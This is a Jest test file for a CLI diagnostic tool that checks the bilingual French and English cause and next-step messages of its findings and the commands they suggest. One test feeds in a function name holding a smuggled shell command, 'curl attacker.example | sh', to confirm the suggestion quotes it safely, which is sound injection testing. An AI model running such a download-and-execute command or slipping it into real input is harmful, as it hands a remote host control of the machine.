import { describe, expect, it } from "@jest/globals";
import { ENVIRONMENTS } from "../../../piste/environments";
import { GUIDE } from "../../../piste/guide";
import { LANGUAGES } from "../../../piste/language";
import { exampleOf, FINDING_CODES, FINDINGS, found } from "../../../cli/doctor/findings";

const ROWS = ENVIRONMENTS.flatMap((environment) => FINDING_CODES.map((code) => [environment, code] as const));

describe("a finding", () => {
  it.each(ROWS)("in %s, %s, has a step of that environment, a cause and a next step", (environment, code) => {
    const row = exampleOf(code, environment);
    expect(GUIDE[environment].map(({ id }) => id)).toContain(row.step);
    for (const language of LANGUAGES) {
      for (const text of [row.cause[language], row.next[language]]) {
        expect(text).toMatch(/^\S[^]*[.!?]$/);
        expect(text).not.toMatch(/undefined|\[object|`` /);
      }
      expect(row.next[language]).not.toBe(row.cause[language]);
    }
  });

  it("with the owner `wait` is not-seen-yet, never missing", () => {
    for (const code of FINDING_CODES) {
      const { owner, status } = exampleOf(code, "prod");
      if (owner === "wait") expect([code, status]).toEqual([code, "not-seen-yet"]);
    }
  });

  it("has two languages that differ", () => {
    for (const code of FINDING_CODES.filter((name) => name !== "bug")) {
      const { cause, next } = exampleOf(code, "qualif");
      expect([code, cause.fr]).not.toEqual([code, cause.en]);
      expect([code, next.fr]).not.toEqual([code, next.en]);
    }
  });

  it("quotes a function's name in a command for the shell", () => {
    const details = { functionName: "x; curl attacker.example | sh", secret: "token" };
    const { next } = found("token-absent", { environment: "qualif" }, details);
    for (const language of LANGUAGES) {
      expect(next[language]).toContain("`aws logs tail '/aws/lambda/x; curl attacker.example | sh' --since 15m`");
    }
  });

  it("has only the necessary options in its commands", () => {
    const place = { environment: "qualif", application: "facturation", account: "client-a" } as const;
    expect(found("account-empty", place, {}).next.en).toContain(
      "`npx piste credentials set qualif technical-account --application facturation --account client-a`",
    );
    expect(found("client-empty", place, {}).next.en).toContain(
      "`npx piste credentials set qualif client --application facturation`",
    );
    expect(found("account-empty", { environment: "qualif" }, {}).next.en).toContain(
      "`npx piste credentials set qualif technical-account`",
    );
  });

  it.each([
    [0, "None of the 4 APIs answers", "Aucune des 4 API ne répond au compte technique"],
    [1, "1 of 4 APIs answers", "1 API sur 4 répond au compte technique"],
    [3, "3 of 4 APIs answer", "3 API sur 4 répondent au compte technique"],
  ])("counts %i APIs in words, and says that habilitations are missing", (answered, en, fr) => {
    const details = { apis: ["Factures"], answered, total: 4, said: "403" };
    const { cause } = found("habilitation-missing", { environment: "qualif" }, details);
    expect(cause.en).toBe(
      `${en} the technical account; Factures refuses it (403): probably habilitations are missing.`,
    );
    expect(cause.fr).toBe(`${fr} ; Factures le refuse (403) : les habilitations manquent probablement.`);
  });

  it("counts no API and a single API in words", () => {
    const letIn = (total: number) =>
      found("api-not-selected", { environment: "qualif" }, { missing: ["Factures"], selected: 0, total }).cause;
    expect(letIn(4).fr).toMatch(/^Aucune des 4 API ne laisse entrer l'application ; manque Factures/);
    expect(letIn(4).en).toMatch(/^None of the 4 APIs lets the application in; Factures missing/);
    expect(letIn(1).fr).toMatch(/^L'API ne laisse pas entrer l'application ;/);
    expect(letIn(1).en).toMatch(/^The API does not let the application in;/);
  });

  it.each([
    found("account-refused", { environment: "prod" }, { expiredOn: "2026-12-13" }),
    found("account-refused-before", { environment: "prod" }, { expiredOn: "2026-12-13" }),
    found("account-overdue", { environment: "prod" }, { by: "2026-12-13" }),
  ])("$code writes a day in words", ({ cause }) => {
    expect(cause.en).toContain(" 13 December 2026");
    expect(cause.fr).toContain(" le 13 décembre 2026");
  });

  it("about an API that is not selected quotes « Aucune API souscrite » and both labels of the button", () => {
    const { next } = exampleOf("api-not-selected", "prod");
    for (const language of LANGUAGES) {
      expect(next[language]).toContain("« Aucune API souscrite »");
      expect(next[language]).toContain("« Sauvegarder l'application » (« Appliquer les modifications »)");
    }
  });

  it.each(["aws-no-credentials", "aws-failed", "bug", "function-failed"] as const)(
    "%s quotes the English message in a French sentence",
    (code) => {
      const { cause, next } = exampleOf(code, "qualif");
      expect(cause.fr).toMatch(/[Mm]essage (d'AWS|d'origine)[^«]* : « [A-Z][^»]* »\)?\./);
      expect(next.fr).not.toBe("");
    },
  );

  it("about a value to store later names the steps before", () => {
    expect(FINDINGS["client-empty"].first?.en).toBe("store the client credentials");
    expect(FINDINGS["account-empty"].first?.en).toBe("store the technical account");
  });
});
